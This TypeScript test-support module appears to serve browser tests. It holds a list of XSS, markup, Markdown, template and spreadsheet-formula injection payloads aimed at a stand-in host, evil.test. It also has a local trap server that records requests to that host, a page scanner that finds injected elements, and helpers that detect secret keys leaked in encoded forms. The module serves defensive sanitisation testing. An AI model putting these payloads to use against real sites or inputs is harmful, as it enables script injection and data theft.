import { once } from "node:events";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { Page } from "playwright-core";

/* Texts that do harm where a page takes them for more than text, and what tells that they did. */

/** Consoles of all frames and workers are read. */
const says = (number: number) => `console.error('harm ${number}')`;

/** Each does harm at once where it is HTML: it says its number, or asks for it elsewhere. */
const markup = [
  `<img class=harm src=//evil.test/1 onerror="${says(1)}">`,
  `"><svg class=harm onload="${says(2)}"></svg>`,
  `</script></style></textarea></title><script class=harm>${says(3)}</script>`,
  `<iframe class=harm srcdoc="<script>${says(4)}</script>"></iframe>`,
  "<link class=harm rel=stylesheet href=//evil.test/5><style class=harm>@import '//evil.test/6'</style>",
  "<script class=harm src=//evil.test/7></script>",
  `' onfocus="${says(8)}" autofocus class=harm x='><details class=harm open ontoggle="${says(8)}">`,
  "<object class=harm data=//evil.test/9></object>",
  "<a class=harm href=http://evil.test/ ping=http://evil.test/>x</a><base class=harm href=//evil.test/>",
  "<form class=harm action=http://evil.test/><button>Sign in</button></form>",
  "<meta class=harm http-equiv=refresh content='0;url=http://evil.test/10'>",
];

/** The same in the hands of Markdown, of links, styles, templates, spreadsheets and patterns. */
const others = [
  `javascript:${says(20)}//`,
  `[Details](javascript:${says(21)}) [x](data:text/html,<script>${says(22)}</script>)`,
  "![map](http://evil.test/23.png) [http://127.0.0.1/](http://evil.test/24)",
  "<http://evil.test/25> www.evil.test\n\n[ref]: http://evil.test/26\n[ref] ![ref]",
  "url(http://evil.test/27)",
  "http://evil.test/28",
  `data:text/html,<script>${says(29)}</script>`,
  `{{constructor.constructor("${says(30)}")()}}\${${says(31)}}`,
  '=HYPERLINK("http://evil.test/32","open")',
  "\u202e\u2066tset.live//:ptth\u2069 $& $1 %00 ../../..",
];

export const harms: readonly string[] = [...markup, ...others];

/** A server for all foreign names, with a page that does every harm of `markup`. */
export async function startTrap() {
  const asked: string[] = [];
  const server = createServer(({ url, headers }, response) => {
    // The browser itself asks its maker.
    if (!/^(?:evil\.test|127\.)/.test(headers.host!)) return response.writeHead(404).end();
    asked.push(url!);
    response.setHeader("content-type", "text/html; charset=utf-8");
    return response.end(url === "/" ? `<!doctype html><body>${markup.join("\n")}` : "");
  });
  // TLS is none of its languages, but the name is readable.
  server.on("clientError", ({ rawPacket }: Error & { rawPacket?: Buffer }, socket) => {
    if (rawPacket?.includes("evil.test")) asked.push("TLS");
    socket.destroy();
  });
  await once(server.listen(0, "127.0.0.1"), "listening");
  const { port } = server.address() as AddressInfo;
  return {
    /** Of Chromium. */
    arguments: [
      "--no-proxy-server",
      `--host-resolver-rules=MAP * 127.0.0.1:${port}, EXCLUDE 127.0.0.1`,
    ],
    url: "http://evil.test",
    /** The same as pages may ask it. */
    address: `http://127.0.0.1:${port}`,
    asked,
    close() {
      server.close();
      server.closeAllConnections();
    },
  };
}

/** Attributes that load, lead or run. */
const active = "action background data formaction href ping poster src srcdoc srcset xlink:href";

/** Elements, handlers and addresses in the page that are made of a harm, but for careful links. */
export function harmIn(page: Pick<Page, "evaluate">): Promise<string[]> {
  return page.evaluate(
    (names) =>
      [...document.querySelectorAll("*")]
        .filter(
          (each) =>
            each.matches(".harm") ||
            [...each.attributes].some(
              ({ name, value }) =>
                name.startsWith("on") ||
                (names.includes(name) &&
                  /^\s*(?:javascript:|data:text|(?:https?:)?\/\/[^/]*evil)/i.test(value) &&
                  !(/^https?:/.test(value) && each.matches("a[rel~=noopener][rel~=noreferrer]"))),
            ),
        )
        .map(({ outerHTML }) => outerHTML.slice(0, 200)),
    active.split(" "),
  );
}

/** A key as an error may repeat it: as it is, and escaped or encoded for URLs, JSON and headers. */
export function spellingsOf(key: string): string[] {
  const hex = Buffer.from(key).toString("hex");
  const inBase64 = ["", "Bearer ", "me:"].map((before) => Buffer.from(before + key));
  return [
    key,
    encodeURIComponent(key),
    hex.replace(/../g, "%$&"),
    key.replace(/\W/g, (each) => `\\u00${each.charCodeAt(0).toString(16)}`),
    hex,
    ...inBase64.flatMap((each) => [each.toString("base64"), each.toString("base64url")]),
  ];
}

/** The spellings of a key that a text has; in Base64 whatever is before and after it. */
export function spellingsIn(text: string, key: string): string[] {
  const inner = ["", "a", "aa"].map((before) => {
    const [from, to] = [before.length, before.length + key.length].map((each) => (each * 4) / 3);
    return Buffer.from(before + key)
      .toString("base64")
      .slice(Math.ceil(from!), Math.floor(to!));
  });
  const forms = [...spellingsOf(key).slice(0, 5), ...inner];
  const plain = text.replaceAll("-", "+").replaceAll("_", "/").toLowerCase();
  return forms.filter((each) =>
    plain.includes(each.replaceAll("-", "+").replaceAll("_", "/").toLowerCase()),
  );
}
